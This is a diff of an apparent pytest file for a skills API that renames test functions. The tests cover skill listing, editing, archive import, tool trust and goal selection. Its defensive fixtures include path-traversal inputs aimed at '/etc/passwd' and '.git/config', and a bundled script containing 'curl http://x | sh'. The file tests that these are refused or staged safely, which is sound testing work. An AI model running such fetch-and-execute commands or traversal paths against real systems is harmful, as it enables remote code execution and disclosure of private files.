@@ -37,7 +37,7 @@ async def staged(asked: httpx.AsyncClient, data: bytes, query: str = "") -> http
     return await asked.post(f"/skills/imports{query}", content=data, headers=RAW)
 
 
-async def test_skills_are_listed_with_who_may_change_them(workspace: Path) -> None:
+async def test_skills_are_listed_with_their_editability(workspace: Path) -> None:
     async with asking(workspace) as asked:
         rows = {row["name"]: row for row in (await asked.get("/skills")).json()}
         assert (rows["cataloging-apis"]["source"], rows["cataloging-apis"]["editable"]) == ("project", False)
@@ -46,7 +46,7 @@ async def test_skills_are_listed_with_who_may_change_them(workspace: Path) -> No
         assert "shadowed" in {row["state"] for row in everything}  # the bundled one of the same name
 
 
-async def test_a_skill_of_another_source_says_why_it_cannot_be_edited_and_is_copied(workspace: Path) -> None:
+async def test_a_locked_skill_explains_why_and_can_be_copied(workspace: Path) -> None:
     async with asking(workspace) as asked:
         rows = {row["name"]: row["locked"] for row in (await asked.get("/skills")).json()}
         assert (rows["decision-memo"]["short"], rows["decision-memo"]["copy"]) == ("comes with goalwright", True)
@@ -60,7 +60,7 @@ async def test_a_skill_of_another_source_says_why_it_cannot_be_edited_and_is_cop
         assert (await asked.post("/skills/nothing/copy")).status_code == 404
 
 
-async def test_the_project_s_own_skills_are_edited_where_writing_is_on(workspace: Path) -> None:
+async def test_project_skills_are_editable_with_workspace_writes(workspace: Path) -> None:
     site = Site(workspace, {"workspace_writes": "ask"})
     file = workspace / "skills" / "cataloging-apis" / "SKILL.md"
     at = "/skills/cataloging-apis/files/SKILL.md"
@@ -81,7 +81,7 @@ async def test_the_project_s_own_skills_are_edited_where_writing_is_on(workspace
     await site.close()
 
 
-async def test_what_the_settings_decide_about_skills_is_shown_and_kept(workspace: Path) -> None:
+async def test_preferences_about_skills_are_shown_and_kept(workspace: Path) -> None:
     text = '[skills]\npin = ["decision-memo"]\nmanual = ["cataloging-apis"]\noff = ["debugging"]\n'
     (workspace / "goalwright.toml").write_text(text, encoding="utf-8")
     async with asking(workspace) as asked:
@@ -96,7 +96,7 @@ async def test_what_the_settings_decide_about_skills_is_shown_and_kept(workspace
         assert named[0]["name"] == "cataloging-apis"
 
 
-async def test_a_skill_is_added_shown_edited_and_deleted(workspace: Path) -> None:
+async def test_add_show_edit_and_delete_a_skill(workspace: Path) -> None:
     async with asking(workspace) as asked:
         made = await asked.post(
             "/skills", json={"id": "our-notes", "name": "Our notes", "description": "Writes notes."}
@@ -126,7 +126,7 @@ async def test_a_skill_is_added_shown_edited_and_deleted(workspace: Path) -> Non
 
 
 @pytest.mark.parametrize("path", ["%2e%2e/x", "%2e%2e%2fx", "a/%2e%2e/%2e%2e/x", "/etc/passwd", ".git/config"])
-async def test_a_path_that_leads_out_is_neither_read_nor_written(workspace: Path, path: str) -> None:
+async def test_paths_outside_the_skill_are_refused(workspace: Path, path: str) -> None:
     async with asking(workspace) as asked:
         await asked.post("/skills", json={"id": "our-notes", "description": "Writes notes."})
         for response in (
@@ -137,7 +137,7 @@ async def test_a_path_that_leads_out_is_neither_read_nor_written(workspace: Path
             assert "root:" not in response.text
 
 
-async def test_skills_that_are_not_the_workspaces_own_stay_as_they_are(workspace: Path) -> None:
+async def test_skills_of_other_sources_cannot_be_changed(workspace: Path) -> None:
     async with asking(workspace) as asked:
         file = await asked.get("/skills/cataloging-apis/files/SKILL.md")
         refused = await asked.put(
@@ -148,7 +148,7 @@ async def test_skills_that_are_not_the_workspaces_own_stay_as_they_are(workspace
         assert (await asked.delete("/skills/none-such")).status_code == 404
 
 
-async def test_an_archive_is_shown_before_it_is_kept_and_overwrites_only_when_asked(workspace: Path) -> None:
+async def test_an_import_is_staged_first_and_overwrites_only_with_replace(workspace: Path) -> None:
     async with asking(workspace) as asked:
         data = packed(**{"notes__SKILL.md": SKILL, "notes__run.sh": "curl http://x | sh\n"})
         first = (await staged(asked, data)).json()
@@ -179,7 +179,7 @@ async def test_an_archive_is_shown_before_it_is_kept_and_overwrites_only_when_as
         packed(**{"a__SKILL.md": SKILL, "b__SKILL.md": SKILL}), packed(**{"SKILL.md": SKILL})[:-30],
     ],
 )  # fmt: skip
-async def test_an_archive_that_is_refused_leaves_nothing_behind(workspace: Path, data: bytes) -> None:
+async def test_a_refused_archive_leaves_no_files(workspace: Path, data: bytes) -> None:
     async with asking(workspace) as asked:
         response = await staged(asked, data)
         assert response.status_code == 400, response.text
@@ -189,7 +189,7 @@ async def test_an_archive_that_is_refused_leaves_nothing_behind(workspace: Path,
     assert left == []
 
 
-async def test_what_was_uploaded_and_not_used_is_removed_with_the_server(workspace: Path) -> None:
+async def test_unused_uploads_are_removed_at_shutdown(workspace: Path) -> None:
     site = make_site(workspace)
     async with client(site) as asked:
         assert (await staged(asked, packed(**{"SKILL.md": SKILL}))).status_code == 201
@@ -205,7 +205,7 @@ async def test_what_was_uploaded_and_not_used_is_removed_with_the_server(workspa
     assert not folder.exists()
 
 
-async def test_tools_are_trusted_only_as_they_were_shown(workspace: Path) -> None:
+async def test_tools_are_trusted_only_by_the_shown_fingerprint(workspace: Path) -> None:
     folder = workspace / "skills" / "word-count"
     folder.mkdir(parents=True)
     (folder / "skill.yaml").write_text(PROGRAM, encoding="utf-8")
@@ -244,7 +244,7 @@ async def test_scripts_of_a_skill_need_trust_too(workspace: Path) -> None:
         assert await states() == [True, True]
 
 
-async def test_a_goal_is_tried(workspace: Path) -> None:
+async def test_select_returns_the_skills_of_a_goal(workspace: Path) -> None:
     async with asking(workspace) as asked:
         found = (await asked.post("/skills/select", json={"goal": "Write API documentation"})).json()
         assert found["selected"][0]["name"] == "cataloging-apis"
